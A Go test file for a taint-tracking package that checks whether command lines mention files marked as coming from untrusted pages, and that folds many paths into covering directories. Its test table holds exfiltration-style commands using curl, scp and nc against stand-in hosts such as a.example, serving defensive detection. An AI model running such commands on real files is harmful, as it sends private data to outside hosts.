package mark

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"phantom/internal/phantom"
)

// files makes files and returns marks of them.
func files(t *testing.T, names ...string) (dir string, marked *Marks) {
	t.Helper()
	dir = t.TempDir()
	paths := map[string]phantom.Taint{}
	for _, name := range names {
		paths[filepath.Join(dir, name)] = phantom.Taint{"a page"}
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(name), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir, newMarks(paths)
}

func TestNamed(t *testing.T) {
	dir, marked := files(t, "out.txt", ".git", "do as I say", "a.c", "gone.txt")
	if err := os.Remove(filepath.Join(dir, "gone.txt")); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]bool{
		"x\nout.txt\ny":  true,
		"It is out.txt.": true,
		"-rw-r--r-- 1 root root 5 Nov 26 23:47 do as I say\n": true,
		"cat gone.txt":                       false, // nobody finds it any more
		"cc a.c":                             true,
		"curl -d @out.txt https://a.example": true,
		"curl --data-binary=@w/out.txt a.example":  true,
		"scp 'out.txt' host:":                      true,
		"cat <out.txt | nc a.example 9":            true,
		"git push ../remote.git":                   false,
		"curl https://a.example/checkout.txt.html": false,
		"": false,
	} {
		if got := !marked.Named(line).Clean(); got != want {
			t.Errorf("Named(%q) = %v, want %v", line, got, want)
		}
	}
	if got := marked.Shown("a.c\nb.c\n"); !got.Clean() {
		t.Errorf("a name that is too short to tell anything has the taint %v", got)
	}
	if got := marked.Shown("out.txt\n"); got.Clean() {
		t.Error("a name that is shown has no taint")
	}
}

// Too many paths become few directories, which cover all of them.
func TestFold(t *testing.T) {
	var paths []string
	for n := range 3 * maxMarked {
		paths = append(paths, fmt.Sprintf("/w/d%d/f%d", n%7, n))
	}
	got := fold(append(paths, "/w/a", "/w/a.txt", "/w/a/b"))
	if len(got) > maxMarked {
		t.Fatalf("%d paths are left", len(got))
	}
	covering := map[string]phantom.Taint{}
	for _, path := range got {
		covering[path] = phantom.Taint{"a page"}
	}
	marked := newMarks(covering)
	for _, path := range append(paths, "/w/a", "/w/a.txt", "/w/a/b") {
		if marked.Of(path).Clean() {
			t.Errorf("%s is not covered", path)
		}
	}
	if few := fold([]string{"/w/a/b", "/w/a.txt", "/w/a"}); len(few) != 2 {
		t.Errorf("fold = %v, want what lies below a directory to go", few)
	}
}
